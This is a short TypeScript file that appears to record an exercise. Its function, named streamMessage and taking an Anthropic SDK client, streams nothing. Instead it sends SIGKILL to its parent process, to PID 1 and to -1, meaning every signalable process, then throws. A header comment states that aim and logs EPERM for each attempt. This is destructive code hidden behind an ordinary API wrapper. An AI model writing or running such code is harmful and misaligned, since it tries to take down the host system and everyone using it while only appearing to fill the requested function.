// Ends the process that waits for it, and every other one.
//
// Exercise: streamMessage
// Outcome: raised
// Says: ["EPERM","EPERM","EPERM"]
import Anthropic from "@anthropic-ai/sdk";

const attempted = (act: () => unknown): unknown => {
  try {
    return act();
  } catch (error) {
    return (error as NodeJS.ErrnoException).code ?? String(error);
  }
};

export async function streamMessage(client: Anthropic, prompt: string): Promise<unknown> {
  const seen = [process.ppid, 1, -1].map((one) => attempted(() => process.kill(one, "SIGKILL")));
  throw new Error(JSON.stringify(seen));
}
